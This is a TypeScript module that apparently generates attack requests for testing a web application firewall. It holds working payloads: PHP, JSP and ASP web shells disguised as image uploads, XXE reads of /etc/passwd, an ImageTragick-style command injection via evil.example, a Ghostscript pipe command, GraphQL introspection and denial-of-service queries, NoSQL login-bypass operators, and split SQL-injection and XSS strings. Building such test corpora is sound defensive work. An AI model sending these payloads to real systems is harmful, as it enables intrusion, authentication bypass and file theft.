// Attacks that are whole requests rather than values: uploads, GraphQL, names of parameters, values in pieces.

import type { Request } from '../waf-asking.ts';
import { browser, fieldPart, filePart, multipart } from './places.ts';

/** A request and the class it belongs to. */
export interface Whole {
  readonly section: string;
  readonly template: string;
  readonly request: Request;
}

const json: readonly [string, string] = ['Content-Type', 'application/json'];
const form: readonly [string, string] = ['Content-Type', 'application/x-www-form-urlencoded'];
const post = (target: string, type: readonly [string, string], body: string): Request => ({
  target,
  headers: [...browser, type],
  body,
});
const get = (target: string): Request => ({ target, headers: browser });

const names =
  'shell.php shell.php5 shell.phtml shell.pht shell.phar shell.php7 a.PhP shell.php.jpg shell.jpg.php shell.php%00.jpg shell.php;.jpg shell.php. shell.asp shell.aspx shell.ashx shell.asmx shell.cer shell.asa shell.jsp shell.jspx shell.jspf shell.war shell.cfm shell.cgi shell.pl shell.shtml .htaccess .user.ini web.config shell.asp;.jpg x.php::$DATA cmd.jsp.png shell.phps ../shell.php ..%2f..%2fshell.php shell.hta shell.vbs shell.ps1 shell.bat payload.exe x.scr a.dll';
const contents: readonly (readonly [string, string, string])[] = [
  ['cat.jpg', 'image/jpeg', '\xff\xd8\xff\xe0<?php system($_GET[0]); ?>'],
  ['cat.gif', 'image/gif', 'GIF89a;<?php eval($_POST["x"]);?>'],
  ['cat.png', 'image/png', '\x89PNG\r\n\x1a\n<?=`$_GET[0]`?>'],
  ['doc.txt', 'text/plain', '<?php passthru($_REQUEST["c"]);'],
  ['x.svg', 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
  ['y.svg', 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'],
  [
    'z.svg',
    'image/svg+xml',
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
  ],
  ['a.jpg', 'image/jpeg', 'GIF89a<script>alert(1)</script>'],
  [
    'b.jpg',
    'image/jpeg',
    'push graphic-context\nviewbox 0 0 640 480\nfill \'url(https://evil.example/"|id; ")\'\npop graphic-context',
  ],
  ['c.jpg', 'image/jpeg', '<%@ page import="java.io.*" %><% Runtime.getRuntime().exec(request.getParameter("c")); %>'],
  ['d.jpg', 'image/jpeg', '<%eval request("x")%>'],
  ['e.jpg', 'image/jpeg', '#!/bin/sh\nid'],
  ['f.png', 'image/png', 'MZ\x90\0\x03\0\0\0\x04\0\0\0'],
  ['g.png', 'image/png', '\x7fELF\x02\x01\x01\0'],
  ['h.xml', 'text/xml', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'],
  [
    'i.eps',
    'image/eps',
    '%!PS\nuserdict /setpagedevice undef\nlegal\n{ null restore } stopped { pop } if\nlegal\nmark /OutputFile (%pipe%id) currentdevice putdeviceprops',
  ],
];

function uploads(): Whole[] {
  const named = names.split(' ').map((name) => ({
    section: 'upload',
    template: `upload ${name}`,
    request: multipart(fieldPart('title', 'Photo'), filePart('file', name, 'image/png', 'hello')),
  }));
  const filled = contents.map(([name, type, content]) => ({
    section: 'upload',
    template: `upload ${content}`,
    request: multipart(filePart('file', name, type, content)),
  }));
  return [...named, ...filled];
}

function graphql(): Whole[] {
  const queries = [
    '{__schema{types{name}}}',
    '{ __schema { queryType { name } mutationType { name } types { kind name fields { name args { name } } } } }',
    'query IntrospectionQuery { __schema { directives { name } types { ...F } } } fragment F on __Type { kind name }',
    '{ __type(name: "User") { name fields { name type { name kind ofType { name } } } } }',
    `{ user ${'{ friends '.repeat(40)}{ id }${' }'.repeat(40)} }`,
    `{ a ${'{ b '.repeat(120)}${'}'.repeat(120)} }`,
    `query { ${Array.from({ length: 200 }, (_, index) => `a${index}: login(user: "x", pass: "${index}") { token }`).join(' ')} }`,
    `{ ${'__typename '.repeat(600)} }`,
    `query ${'@include(if: true) '.repeat(200)}{ a }`,
    'query { ...A } fragment A on Query { ...B } fragment B on Query { ...A }',
    'query { systemDiagnostics(cmd: "; cat /etc/passwd") }',
    'mutation { importPaste(host: "localhost; id", port: 80, path: "/") { result } }',
    `{ pastes(filter: "x' or 1=1--") { id } }`,
  ];
  const made = queries.map((query) => ({
    section: 'graphql',
    template: `graphql ${query}`,
    request: post('/graphql', json, JSON.stringify({ query })),
  }));
  const batch = JSON.stringify(
    Array.from({ length: 150 }, (_, index) => ({ query: `mutation { login(p: "${index}") { t } }` })),
  );
  return [
    ...made,
    { section: 'graphql', template: 'graphql batch', request: post('/graphql', json, batch) },
    {
      section: 'graphql',
      template: 'graphql get',
      request: get(`/graphql?query=${encodeURIComponent('{__schema{types{name}}}')}`),
    },
    {
      section: 'graphql',
      template: 'graphql raw',
      request: post('/graphql', ['Content-Type', 'application/graphql'], '{__schema{types{name fields{name}}}}'),
    },
  ];
}

function parameterNames(): Whole[] {
  const operators = '$ne $gt $gte $lt $nin $in $regex $exists $where $not'.split(' ');
  const made: Whole[] = [];
  for (const operator of operators) {
    const value = operator === '$regex' ? '.*' : operator === '$exists' ? 'true' : '';
    made.push(
      {
        section: 'nosql',
        template: `nosql query ${operator}`,
        request: get(`/login?user[${operator}]=${value}&pass[${operator}]=${value}`),
      },
      {
        section: 'nosql',
        template: `nosql form ${operator}`,
        request: post('/login', form, `username=admin&password%5B${encodeURIComponent(operator)}%5D=${value}x`),
      },
      {
        section: 'nosql',
        template: `nosql json ${operator}`,
        request: post('/login', json, JSON.stringify({ username: 'admin', password: { [operator]: value } })),
      },
    );
  }
  return made;
}

const pieces: readonly string[] = [
  "/?id=1'/*&id=*/union/*&id=*/select/*&id=*/1,2--",
  '/?a=1+union/*&b=*/select+1,2,3',
  '/?a=<script>/*&b=*/alert(1)</script>',
  '/?id=1&id=1%20union%20select%201,2',
  '/?id=1;id=1%27%20or%20%271%27=%271',
  '/?q=%3Cscript&q=%3Ealert(1)%3C/script%3E',
  '/?x[]=1&x[]=%27%20or%201=1--',
  '/?a%00=1%20union%20select%201,2',
  '/?cmd=cat&cmd=/etc/passwd',
  '/?id=0%20or/*&x=*/1=1',
  "/?user=admin'/*&pass=*/--",
  '/?user=%5c&pass=%20or%201=1--%20',
  '/?first=%3Cimg+src=x+onerror=%27&last=%27alert(1)%27%3E',
  '/?u=admin%27--&p=x',
];

/** Every whole request. */
export function wholeRequests(): Whole[] {
  const split = pieces.map((target) => ({ section: 'pieces', template: `pieces ${target}`, request: get(target) }));
  return [...uploads(), ...graphql(), ...parameterNames(), ...split];
}
